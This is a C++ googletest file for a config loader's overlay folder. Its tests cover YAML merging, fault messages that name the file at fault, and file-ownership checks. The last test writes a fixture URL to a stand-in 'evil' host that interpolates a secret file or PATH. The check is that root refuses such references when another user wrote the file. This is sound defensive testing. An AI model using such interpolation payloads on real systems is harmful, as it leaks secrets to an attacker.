// SPDX-License-Identifier: Apache-2.0
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "config/reading.hpp"

namespace porchlight::config {
namespace {

class Overlay : public testing::Test {
 protected:
  void SetUp() override {
    folder_ = std::filesystem::temp_directory_path() / ("porchlight-overlay-" + std::to_string(::getpid()));
    std::filesystem::create_directories(folder_ / "config.d");
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }
  void write(const std::string& name, const std::string& text) { std::ofstream(folder_ / name) << text; }
  Document load() {
    auto document = Document::load(folder_ / "main.yaml", faults_);
    EXPECT_TRUE(document.ok());
    EXPECT_TRUE(document->overlay(folder_ / "config.d", faults_).ok());
    return std::move(document).value();
  }
  // Faults with the temporary folder taken off.
  std::vector<std::string> seen() {
    auto all = texts(faults_);
    for (auto& text : all) text.erase(0, folder_.string().size() + 1);
    return all;
  }

  std::filesystem::path folder_;
  Faults faults_;
};

TEST_F(Overlay, MergesMappingsAndTheLaterFileWins) {
  write("main.yaml", "server: {listen: a, port: 1}\ncameras: [{id: a, url: b}]\n");
  write("config.d/10-x.yaml", "server: {port: 2}\ncameras: [{id: c, url: d}, {id: e, url: f}]\n");
  write("config.d/20-y.yaml", "server: {port: 3, enabled: false}\n");
  write("config.d/30-z.yaml.bak", "server: {port: 4}\n");
  auto root = load().root();
  EXPECT_EQ(root.section("server").text("listen", ""), "a");
  EXPECT_EQ(root.section("server").integer("port", 0, 0, 9), 3);
  EXPECT_EQ(root.section("server").boolean("enabled", true), false);
  EXPECT_EQ(root.list("cameras").size(), 2u);
}

TEST_F(Overlay, FaultsNameTheFileTheyStandIn) {
  write("main.yaml", "server:\n  listen: a\n  port: x\n");
  write("config.d/a.yaml", "\nserver:\n  enabled: maybe\n  prot: 1\n");
  read_sample(load().root());
  EXPECT_THAT(seen(), testing::ElementsAre(
                          "config.d/a.yaml:3:3: server.enabled: expected true or false, found 'maybe'",
                          "config.d/a.yaml:4:3: server.prot: unknown key (did you mean 'port'?)",
                          "main.yaml:3:3: server.port: expected a whole number, found 'x'"));
}

TEST_F(Overlay, AReplacedValueIsTheLaterFiles) {
  write("main.yaml", "server: {port: 1}\n");
  write("config.d/a.yaml", "\n\nserver: {port: x}\n");
  read_sample(load().root());
  EXPECT_THAT(seen(),
              testing::ElementsAre("config.d/a.yaml:3:10: server.port: expected a whole number, found 'x'"));
}

TEST_F(Overlay, ASyntaxFaultInOneFileKeepsTheOthersFaults) {
  write("main.yaml", "server: {port: x}\ncameras: [{id: a}]\n");
  write("config.d/a.yaml", "cameras: [{id: a\n");
  read_sample(load().root());
  EXPECT_THAT(seen(),
              testing::ElementsAre("config.d/a.yaml:1:1: syntax: end of map flow not found",
                                   "main.yaml:1:10: server.port: expected a whole number, found 'x'"));
}

TEST_F(Overlay, AMissingFolderIsNoFault) {
  write("main.yaml", "server: {port: 1}\n");
  std::filesystem::remove_all(folder_ / "config.d");
  read_sample(load().root());
  EXPECT_TRUE(faults_.empty());
}

TEST_F(Overlay, AnEmptyFileChangesNothing) {
  write("main.yaml", "server: {port: 5}\n");
  write("config.d/a.yaml", "# nothing\n");
  write("config.d/b.yaml", "server:\n");
  EXPECT_EQ(load().root().section("server").integer("port", 0, 0, 9), 5);
}

TEST_F(Overlay, ATooLargeFileIsAFaultWithItsName) {
  write("main.yaml", "#" + std::string(1024 * 1024 + 100, 'x'));
  read_sample(load().root());
  EXPECT_THAT(seen(), testing::ElementsAre("main.yaml:1:1: the file is larger than 1 MiB"));
}

// What the service may write can name no program for root to start.
TEST_F(Overlay, TellsWhatOthersThanRootMayWrite) {
  write("main.yaml", "list: [{command: [/bin/main]}]\nother: 1\n");
  write("config.d/a.yaml", "list: [{command: [/bin/over]}]\n");
  const auto is_roots_own = [&] {
    auto document = load();
    auto root = document.root();
    EXPECT_TRUE(root.is_roots_own("other")) << "the main file is named by whoever starts the program";
    return root.list("list").at(0).is_roots_own("command");
  };
  const auto over = folder_ / "config.d" / "a.yaml";
  ASSERT_EQ(::chmod(over.c_str(), 0666), 0);
  EXPECT_FALSE(is_roots_own());
  ASSERT_EQ(::chmod(over.c_str(), 0664), 0);
  EXPECT_FALSE(is_roots_own());
  ASSERT_EQ(::chmod(over.c_str(), 0644), 0);
  EXPECT_EQ(is_roots_own(), ::geteuid() == 0);
  if (::geteuid() == 0) {
    ASSERT_EQ(::chown(over.c_str(), 65534, 65534), 0);
    EXPECT_FALSE(is_roots_own());
  }
  std::filesystem::remove(over);
  EXPECT_TRUE(is_roots_own());
}

// Else whoever may write it has root read a file, and send it to where the same file says.
TEST_F(Overlay, RootFollowsNoReferenceThatAnotherWrote) {
  if (::geteuid() != 0) GTEST_SKIP() << "only root reads more than the one who wrote the file";
  write("secret", "s3cret");
  write("main.yaml", "a: 1\n");
  write("config.d/a.yaml", "url: \"https://evil/${file:" + (folder_ / "secret").string() + "}\"\n");
  const auto over = folder_ / "config.d" / "a.yaml";
  EXPECT_EQ(load().root().text("url", ""), "https://evil/s3cret");
  ASSERT_EQ(::chown(over.c_str(), 65534, 65534), 0);
  EXPECT_EQ(load().root().text("url", ""), "");
  EXPECT_THAT(seen(), testing::ElementsAre(testing::HasSubstr("root does not follow it")));
  write("config.d/a.yaml", "url: \"https://evil/${ENV:PATH}\"\n");
  ASSERT_EQ(::chown(over.c_str(), 65534, 65534), 0);
  EXPECT_EQ(load().root().text("url", ""), "");
}

}  // namespace
}  // namespace porchlight::config
